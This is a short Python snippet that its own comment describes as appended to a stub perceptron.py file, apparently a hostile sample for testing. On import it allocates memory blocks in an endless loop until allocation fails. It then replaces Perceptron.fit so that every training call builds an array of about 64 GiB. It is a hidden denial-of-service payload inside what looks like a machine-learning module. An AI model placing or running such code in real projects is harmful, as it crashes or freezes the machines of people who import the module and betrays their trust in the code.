# ruff: noqa: F821
# Appended to the stub perceptron.py: memory without end, at import (ever more 64 MiB blocks,
# each written to, until the allocation fails) and in every Perceptron.fit (a 64 GiB array).
import numpy

hoard = []
try:
    while True:
        hoard.append(bytearray(b"x" * 2**26))
except MemoryError:
    hoard.clear()


def fit(self, X, y, epochs=100):
    return numpy.ones(2**33).tolist()


Perceptron.fit = fit
